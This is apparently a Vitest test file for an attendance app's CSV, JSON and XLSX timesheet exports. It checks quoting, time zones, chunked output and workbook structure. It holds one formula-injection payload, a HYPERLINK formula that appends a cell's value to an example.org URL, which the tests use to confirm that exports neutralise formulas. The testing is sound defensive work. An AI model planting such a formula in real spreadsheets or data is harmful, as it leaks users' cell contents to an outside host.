import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { type CsvOptions, csvChunks, jsonChunks } from '../../main/attendance/csv.ts'
import { readRules } from '../../main/attendance/schedule.ts'
import {
  eventTable,
  isoLocal,
  type Table,
  timesheet,
  timesheetTable,
  totalsTable,
} from '../../main/attendance/table.ts'
import { timesheetDays } from '../../main/attendance/timesheet.ts'
import { xlsxChunks } from '../../main/attendance/xlsx.ts'
import { LocalDate } from '../../main/contract/attendance-rules.ts'
import { Instant, PersonId } from '../../main/contract/entities.ts'
import { check, correction, local } from './build.ts'
import { rulesOf } from './examples/example.ts'

const attack = '=HYPERLINK("http://example.org?"&A1,"x")'
const events = [
  check(1, 'in', local('2026-05-04 09:00:07'), { person: { id: 1, name: 'Müller, "Ada"\nsecond line' } }),
  check(2, 'out', local('2026-05-04 17:30'), {
    person: { id: 1, name: attack },
    employeeNumber: '-12',
    similarity: -0.25,
  }),
  correction(3, 'void', 2, 'out', local('2026-05-04 17:30')),
]
const plan = readRules(rulesOf({ name: '', events: [], days: {} }))({ id: PersonId.parse(1), groups: [] })
const range = { from: LocalDate.parse('2026-05-04'), to: LocalDate.parse('2026-05-06') }
const person = { id: PersonId.parse(1), name: '佐藤 <b>', employeeNumber: '007' }
const sheet = timesheet(person, timesheetDays(plan, events.slice(0, 2), range, local('2026-06-01 00:00')))
const soffice = ['soffice', 'libreoffice'].find((name) => {
  try {
    execFileSync(name, ['--version'], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
})

function csv(table: Table, options: Partial<CsvOptions> = {}): string {
  return [...csvChunks(table, { bom: false, ...options })].join('')
}

function xlsx(tables: readonly Table[], maxRows?: number): Uint8Array {
  return Buffer.concat([...xlsxChunks(tables, { person: 'Person & name' }, Date.parse('2026-06-01T00:00Z'), maxRows)])
}

/** The files of a workbook, as text. */
function partsOf(workbook: Uint8Array): Record<string, string> {
  const files = Object.entries(unzipSync(workbook))
  return Object.fromEntries(files.map(([path, bytes]) => [path, new TextDecoder().decode(bytes)]))
}

/** The groups of every match. */
function all(text: string, pattern: RegExp): string[][] {
  return [...text.matchAll(pattern)].map((match) => match.slice(1))
}

/** The cells of a file's sheet, by LibreOffice. */
function convert(name: string, content: Uint8Array | string, options: readonly string[] = []): string[][] {
  const folder = mkdtempSync(join(tmpdir(), 'rollcall-export-'))
  try {
    writeFileSync(join(folder, name), content)
    const profile = `-env:UserInstallation=file://${folder}/profile`
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1'
    execFileSync(
      soffice!,
      [profile, '--headless', ...options, '--convert-to', filter, '--outdir', join(folder, 'out'), join(folder, name)],
      {
        stdio: 'ignore',
      },
    )
    const [file] = readdirSync(join(folder, 'out'))
    const text = readFileSync(join(folder, 'out', file!), 'utf8')
    return Papa.parse<string[]>(text.trim()).data
  } finally {
    rmSync(folder, { recursive: true })
  }
}

describe('CSV', () => {
  test('can be read back: commas, quotes, line breaks, local times with their offset', () => {
    const { data } = Papa.parse<Record<string, string>>(csv(eventTable('Events', events)), {
      header: true,
      skipEmptyLines: true,
    })
    expect(data).toHaveLength(3)
    expect(data[0]).toMatchObject({
      id: '1',
      person: 'Müller, "Ada"\nsecond line',
      time: '2026-05-04T09:00:07+02:00',
      clock_moved: 'false',
    })
    expect(data[2]).toMatchObject({
      kind: 'correction',
      corrects: '2',
      action: 'void',
      actor: 'manager',
      similarity: '',
    })
  })

  test('has all that is known of an entry', () => {
    const full = check(7, 'out', local('2026-01-05 17:30', 'America/New_York'), {
      ...{ zone: 'America/New_York', recordedAt: local('2026-01-05 17:31', 'America/New_York'), method: 'face' },
      ...{ person: { id: 4, name: 'Ada' }, employeeNumber: 'E1', kiosk: 'Front door', track: 9, similarity: 0.71 },
      ...{ runnerUp: { person: { id: 5, name: 'Grace' }, similarity: 0.32 }, threshold: 0.45, thresholdVersion: 3 },
      ...{ model: 'sface', metric: 2, liveness: 0.98, quality: 81, clockMoved: true },
      livenessModels: [
        { model: 'fr_liveness', real: 0.993 },
        { model: 'MiniFASNetV2', real: 0.98 },
      ],
    })
    const { data, meta } = Papa.parse<Record<string, string>>(csv(eventTable('Events', [full])), {
      ...{ header: true, skipEmptyLines: true },
    })
    expect(meta.fields).toHaveLength(26)
    expect(data).toEqual([
      {
        ...{ id: '7', kind: 'check', person: 'Ada', person_id: '4', employee_number: 'E1', direction: 'out' },
        ...{ time: '2026-01-05T17:30:00-05:00', zone: 'America/New_York', recorded_at: '2026-01-05T17:31:00-05:00' },
        ...{
          method: 'face',
          kiosk: 'Front door',
          similarity: '0.71',
          runner_up: 'Grace',
          runner_up_similarity: '0.32',
        },
        ...{ threshold: '0.45', threshold_version: '3', model: 'sface', metric: '2', liveness: '0.98', quality: '81' },
        ...{ clock_moved: 'true', corrects: '', action: '', actor: '', reason: '' },
        liveness_models: 'fr_liveness 0.993, MiniFASNetV2 0.98',
      },
    ])
  })

  test.each([
    ['Asia/Kolkata', '2026-05-04T12:30:00+05:30'],
    ['UTC', '2026-05-04T07:00:00+00:00'],
    ['America/St_Johns', '2026-05-04T04:30:00-02:30'],
  ])('times in %s carry their distance from UTC', (zone, text) => {
    expect(isoLocal({ at: Instant.parse(Date.UTC(2026, 4, 4, 7)), zone })).toBe(text)
  })

  test('has titles where they are given, which are no formulas either', () => {
    expect(csv(totalsTable('Sums', []), { titles: { person: '=Name', worked_minutes: 'Worked, net' } })).toMatch(
      /^'=Name,employee_number,expected_minutes,"Worked, net",/,
    )
  })

  test('leaves in pieces of some size, without a gap between them', () => {
    const rows = Array.from({ length: 9_000 }, (_, index) => [`Person number ${index}`, index])
    const columns = [
      { key: 'person', kind: 'text' },
      { key: 'id', kind: 'number' },
    ] as const
    const pieces = [...csvChunks({ name: 'Long', columns, rows }, { bom: false })]
    expect(pieces.length).toBe(4)
    for (const piece of pieces.slice(0, -1)) expect(piece.length).toBeGreaterThanOrEqual(65_536)
    expect(Papa.parse(pieces.join(''), { skipEmptyLines: true, dynamicTyping: true }).data).toEqual([
      ['person', 'id'],
      ...rows,
    ])
    const json = [...jsonChunks({ name: 'Long', columns, rows })]
    expect(json.length).toBeGreaterThan(4)
    for (const piece of json.slice(0, -1)) expect(piece.length).toBeGreaterThanOrEqual(65_536)
    expect(JSON.parse(json.join(''))).toEqual(rows.map(([person, id]) => ({ person, id })))
  })

  test('leaves numbers and ordinary text alone', () => {
    const { data } = Papa.parse<Record<string, string>>(csv(eventTable('Events', events)), { header: true })
    expect(data[1]).toMatchObject({ person: `'${attack}`, employee_number: "'-12", similarity: '-0.25' })
  })

  test('has the mark only when it is asked for', () => {
    const table = () => eventTable('Events', [])
    expect(csv(table(), { bom: true }).codePointAt(0)).toBe(0xfeff)
    expect(csv(table()).startsWith('id,kind,person,')).toBe(true)
  })

  test('with semicolons, as Excel reads it where the comma is the decimal sign', () => {
    const text = csv(
      eventTable('Events', [check(1, 'in', local('2026-05-04 09:00'), { person: { id: 1, name: 'a;b, c' } })]),
      {
        separator: ';',
      },
    )
    const { data } = Papa.parse<Record<string, string>>(text, { header: true, delimiter: ';' })
    expect(data[0]).toMatchObject({ id: '1', person: 'a;b, c', similarity: '0,7' })
    expect(csv(totalsTable('Sums', [sheet]), { separator: ';' }).split('\r\n')[1]).toMatch(/^佐藤 <b>;007;1440;510;/)
  })

  test('the days of a timesheet add up to its row of sums', () => {
    const read = (table: Table) =>
      Papa.parse<Record<string, string>>(csv(table), { header: true, skipEmptyLines: true }).data
    const days = read(timesheetTable('Days', [sheet]))
    const [sums] = read(totalsTable('Sums', [sheet]))
    expect(days.map(({ date, worked_minutes, status }) => [date, worked_minutes, status])).toEqual([
      ['2026-05-04', '510', 'worked'],
      ['2026-05-05', '0', 'absent'],
      ['2026-05-06', '0', 'absent'],
    ])
    expect(days[0]).toMatchObject({
      ...{ person: '佐藤 <b>', employee_number: '007', holiday: '', leave: '', flags: '' },
      ...{ first_in: '2026-05-04T09:00:07+02:00', last_out: '2026-05-04T17:30:00+02:00', overtime_minutes: '30' },
    })
    expect(days[1]).toMatchObject({ first_in: '', last_out: '', absent_minutes: '480', flags: '' })
    expect(sums).toMatchObject({
      days_to_check: '0',
      worked_minutes: '510',
      expected_minutes: '1440',
      absent_minutes: '960',
      overtime_minutes: '30',
    })
  })
})

test('a timesheet says the holiday or leave of a day, what is odd about it, and how many days must be checked', () => {
  const leave = { from: '2026-05-05', to: '2026-05-05' }
  const plan = readRules(rulesOf({ name: '', events: [], days: {}, holidays: ['2026-05-04'], leave }))
  const forgotten = [
    ...[check(1, 'in', local('2026-05-04 09:00'), { clockMoved: true }), check(2, 'in', local('2026-05-04 13:00'))],
    check(3, 'out', local('2026-05-04 17:00')),
  ]
  const days = timesheetDays(plan({ id: PersonId.parse(1), groups: [] }), forgotten, range, local('2026-06-01 00:00'))
  const rowsOf = ({ columns, rows }: Table) =>
    [...rows].map((row) => Object.fromEntries(columns.map(({ key }, index) => [key, row[index]])))
  const sheets = [timesheet(person, days)]
  expect(rowsOf(timesheetTable('Days', sheets))).toMatchObject([
    { date: '2026-05-04', status: 'worked', holiday: 'Feast', leave: null, last_out: { at: forgotten[2]!.at } },
    { date: '2026-05-05', status: 'leave', holiday: null, leave: 'Vacation', leave_minutes: 480, flags: '' },
    { date: '2026-05-06', status: 'absent', holiday: null, leave: null, first_in: null, last_out: null },
  ])
  expect(rowsOf(timesheetTable('Days', sheets))[0]!.flags).toBe('missing-out clock-moved worked-holiday')
  expect(rowsOf(totalsTable('Sums', sheets))).toMatchObject([
    { person: '佐藤 <b>', days_to_check: 1, leave_minutes: 480, confirmed: null, changed_since: null },
  ])
  const confirmation = { at: local('2026-06-01 09:00'), zone: 'Europe/Berlin', changed: true }
  const [line] = csv(totalsTable('Sums', [{ ...sheets[0]!, confirmation }]))
    .trimEnd()
    .split('\r\n')
    .slice(1)
  expect(line!.split(',').slice(-2)).toEqual(['2026-06-01T09:00:00+02:00', 'true'])
})

test('JSON is one array of the same columns', () => {
  const parsed = JSON.parse([...jsonChunks(eventTable('Events', events))].join(''))
  expect(parsed).toHaveLength(3)
  expect(parsed[1]).toMatchObject({
    person: attack,
    time: '2026-05-04T17:30:00+02:00',
    similarity: -0.25,
    corrects: null,
  })
  expect(JSON.parse([...jsonChunks(eventTable('Events', []))].join(''))).toEqual([])
})

describe('XLSX', () => {
  test('names its sheets lawfully and each differently', () => {
    const table = (name: string): Table => ({ name, columns: [{ key: 'a', kind: 'text' }], rows: [['x']] })
    const files = unzipSync(xlsx([table('A/B:C'), table('a b c'), table('x'.repeat(40)), table('x'.repeat(40))]))
    const workbook = new TextDecoder().decode(files['xl/workbook.xml'])
    const names = [...workbook.matchAll(/sheet name="([^"]*)"/g)].map((match) => match[1])
    expect(names).toEqual(['A B C', 'a b c (2)', 'x'.repeat(31), `${'x'.repeat(27)} (2)`])
  })

  test('is a package whose parts find each other', () => {
    const files = partsOf(xlsx([eventTable('Events', events), totalsTable('Sums', [sheet])]))
    const main = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
    const types = all(files['[Content_Types].xml']!, /<Override PartName="\/([^"]*)" ContentType="([^"]*)"/g)
    expect(Object.fromEntries(types)).toEqual({
      'xl/workbook.xml': `${main}.sheet.main+xml`,
      'xl/styles.xml': `${main}.styles+xml`,
      'xl/worksheets/sheet1.xml': `${main}.worksheet+xml`,
      'xl/worksheets/sheet2.xml': `${main}.worksheet+xml`,
    })
    const described = types.map(([path]) => path!)
    expect(
      Object.keys(files)
        .filter((path) => path.startsWith('xl/') && !path.endsWith('.rels'))
        .toSorted(),
    ).toEqual(described.toSorted())
    for (const xml of Object.values(files)) expect(xml).toMatch(/^<\?xml version="1.0" encoding="UTF-8"/)
    // Nothing stands between the elements.
    for (const path of [
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      '_rels/.rels',
      '[Content_Types].xml',
    ])
      expect(files[path]!.replaceAll(/<[^>]*>/g, '')).toBe('')
    const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    const packaged = 'http://schemas.openxmlformats.org/package/2006'
    const spaces = (path: string) => all(files[path]!, /xmlns(?::r)?="([^"]*)"/g).flat()
    expect(spaces('xl/workbook.xml')).toEqual(['http://schemas.openxmlformats.org/spreadsheetml/2006/main', office])
    expect(spaces('_rels/.rels')).toEqual([`${packaged}/relationships`])
    expect(spaces('[Content_Types].xml')).toEqual([`${packaged}/content-types`])
    expect(files['_rels/.rels']).toContain(`Type="${office}/officeDocument"`)
    const relation = /Id="([^"]*)" Type="[^"]*\/(\w+)" Target="([^"]*)"/g
    expect(all(files['_rels/.rels']!, relation)).toEqual([['rId1', 'officeDocument', 'xl/workbook.xml']])
    expect(all(files['xl/_rels/workbook.xml.rels']!, relation)).toEqual([
      ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
      ['rId2', 'worksheet', 'worksheets/sheet2.xml'],
      ['rId3', 'styles', 'styles.xml'],
    ])
    expect(all(files['xl/workbook.xml']!, /<sheet name="([^"]*)" sheetId="(\d)" r:id="(\w*)"/g)).toEqual([
      ['Events', '1', 'rId1'],
      ['Sums', '2', 'rId2'],
    ])
  })

  test('has each kind of cell in its own format, and empty ones in their place', () => {
    const kinds = ['text', 'number', 'truth', 'time', 'date', 'minutes'] as const
    const zone = 'America/New_York'
    const rows = [
      ['9', -0.25, true, { at: local('2026-05-04 09:00', zone), zone }, '2026-05-04', 510],
      [null, null, false, null, null, 0],
    ]
    const files = partsOf(xlsx([{ name: 'T', columns: kinds.map((kind) => ({ key: kind, kind })), rows }]))
    const xml = files['xl/worksheets/sheet1.xml']!
    const [first, second] = all(xml, /<row r="[23]">(.*?)<\/row>/g).map(([row]) => row!)
    const cells = all(first!, /<c (?:s="(\d)")? ?(?:t="(\w+)")?>(?:<v>|<is><t xml:space="preserve">)([^<]*)/g)
    expect(cells.map(([, type, value]) => [type, value])).toEqual([
      ['inlineStr', '9'],
      [undefined, '-0.25'],
      ['b', '1'],
      // Days since 1899-12-30.
      [undefined, '46146.375'],
      [undefined, '46146'],
      [undefined, String(510 / 1440)],
    ])
    const styles = files['xl/styles.xml']!
    const codes = Object.fromEntries(all(styles, /<numFmt numFmtId="(\d+)" formatCode="([^"]*)"/g))
    const formats = all(styles.split('<cellXfs')[1]!, /<xf numFmtId="(\d+)" fontId="(\d)"/g)
    const format = (style: string) => [
      codes[formats[Number(style)]![0]!] ?? formats[Number(style)]![0],
      formats[Number(style)]![1],
    ]
    expect(cells.map(([style]) => style && format(style))).toEqual([
      // 49 is text, whatever is typed into it.
      ...[['49', '0'], ['0', '0'], undefined, ['yyyy\\-mm\\-dd\\ hh:mm:ss', '0']],
      ...[
        ['yyyy\\-mm\\-dd', '0'],
        ['[h]:mm', '0'],
      ],
    ])
    // The head is bold.
    expect(format(/<row r="1"><c s="(\d)"/.exec(xml)![1]!)).toEqual(['49', '1'])
    expect(second).toBe('<c/><c/><c t="b"><v>0</v></c><c/><c/><c s="4"><v>0</v></c>')
    expect(all(xml, /<col min="(\d)" max="(\d)" width="(\d+)"/g)).toEqual([
      ...[
        ['1', '1', '18'],
        ['2', '2', '12'],
        ['3', '3', '10'],
        ['4', '4', '20'],
        ['5', '5', '12'],
        ['6', '6', '12'],
      ],
    ])
  })

  test('goes on in further sheets where a table is longer than one may be', () => {
    const sheets = (count: number) => {
      const rows = Array.from({ length: count }, (_, index) => [index])
      const files = partsOf(xlsx([{ name: 'Log', columns: [{ key: 'id', kind: 'number' }], rows }], 3))
      const names = all(files['xl/workbook.xml']!, /sheet name="([^"]*)"/g).map(([name]) => name)
      return names.map((name, index) => [
        name,
        ...all(files[`xl/worksheets/sheet${index + 1}.xml`]!, /<v>(\d+)<\/v>/g).map(([value]) => Number(value)),
      ])
    }
    expect(sheets(0)).toEqual([['Log']])
    expect(sheets(2)).toEqual([['Log', 0, 1]])
    expect(sheets(5)).toEqual([
      ['Log', 0, 1],
      ['Log (2)', 2, 3],
      ['Log (3)', 4],
    ])
  })

  test('cuts text to what a cell may hold, and keeps its line breaks', () => {
    const rows = [['x'.repeat(40_000)], ['a\r\nb\tc']]
    const xml = partsOf(xlsx([{ name: 'T', columns: [{ key: 'reason', kind: 'text' }], rows }]))[
      'xl/worksheets/sheet1.xml'
    ]!
    expect(all(xml, /preserve">([^<]*)</g).map(([text]) => text)).toEqual(['reason', 'x'.repeat(32_767), 'a\r\nb\tc'])
  })

  test('calls lengths times and not minutes: that is what its cells hold', () => {
    const heads = (table: Table) => {
      const xml = new TextDecoder().decode(unzipSync(xlsx([table]))['xl/worksheets/sheet1.xml'])
      return [...xml.matchAll(/preserve">([^<]*)</g)].map((match) => match[1]!)
    }
    expect(heads(totalsTable('Sums', []))).toEqual([
      ...[
        'Person &amp; name',
        'employee_number',
        'expected_time',
        'worked_time',
        'break_time',
        'deducted_time',
        'late_time',
      ],
      ...['early_time', 'overtime_time', 'absent_time', 'leave_time', 'days_to_check', 'confirmed', 'changed_since'],
    ])
    expect(heads(timesheetTable('Days', [])).filter((head) => head.includes('minutes'))).toEqual([])
  })

  test('holds no formula and no character that XML can not hold', () => {
    const rows = [[attack], ['a\u0000\u0008b\uD800\uFFFF<&>"']]
    const files = unzipSync(xlsx([{ name: 'T', columns: [{ key: 'person', kind: 'text' }], rows }]))
    const xml = new TextDecoder().decode(files['xl/worksheets/sheet1.xml'])
    expect(xml).not.toContain('<f>')
    expect(xml).toContain('>ab\uFFFD&lt;&amp;&gt;&quot;</t>')
    expect(xml).toContain('>Person &amp; name</t>')
  })

  test.skipIf(!soffice)('opens in LibreOffice with the right cells', { timeout: 120_000 }, () => {
    const eventRows = convert('events.xlsx', xlsx([eventTable('Events', events)]))
    const head = eventRows[0]!
    const cell = (row: number, title: string) => eventRows[row]![head.indexOf(title)]
    expect(cell(1, 'Person & name')).toBe('Müller, "Ada"\nsecond line')
    expect(cell(1, 'time')).toBe('2026-05-04 09:00:07')
    expect(cell(2, 'Person & name')).toBe(attack)
    expect(cell(2, 'employee_number')).toBe('-12')
    expect(cell(2, 'similarity')).toBe('-0.25')
    expect(cell(3, 'action')).toBe('void')
    const dayRows = convert('days.xlsx', xlsx([timesheetTable('Days', [sheet])]))
    const days = dayRows.map((row) =>
      ['employee_number', 'date', 'worked_time', 'first_in'].map((title) => row[dayRows[0]!.indexOf(title)]),
    )
    expect(days.slice(1)).toEqual([
      ['007', '2026-05-04', '8:30', '2026-05-04 09:00:07'],
      ['007', '2026-05-05', '0:00', ''],
      ['007', '2026-05-06', '0:00', ''],
    ])
  })

  test.skipIf(!soffice)('the CSV opens there too, and its formula is text', { timeout: 120_000 }, () => {
    const rows = convert('events.csv', csv(eventTable('Events', events), { bom: true }), ['--infilter=CSV:44,34,76,1'])
    expect(rows[2]![rows[0]!.indexOf('person')]).toContain('=HYPERLINK(')
  })
})

test('a long export takes no more memory than a short one', () => {
  let alive = 0
  let most = 0
  function* rows(count: number) {
    for (let index = 0; index < count; index++) {
      alive += 1
      yield [`Person ${index}`, index]
    }
  }
  const columns = [
    { key: 'person', kind: 'text' },
    { key: 'id', kind: 'number' },
  ] as const
  const chunks: Uint8Array[] = []
  for (const chunk of xlsxChunks([{ name: 'Long', columns, rows: rows(20_000) }], {}, events[0]!.at)) {
    chunks.push(chunk)
    most = Math.max(most, alive)
    alive = 0
  }
  // Pieces leave while rows are still being read: never more than a few thousand rows are on the way.
  expect(most).toBeLessThan(5_000)
  const xml = partsOf(Buffer.concat(chunks))['xl/worksheets/sheet1.xml']!
  const numbers = all(xml, /<row r="(\d+)">/g).map(([row]) => Number(row))
  expect(numbers).toEqual(Array.from({ length: 20_001 }, (_, index) => index + 1))
  expect(xml.replaceAll(/<t xml:space="preserve">[^<]*|<v>[^<]*|<[^>]*>/g, '')).toBe('')
})
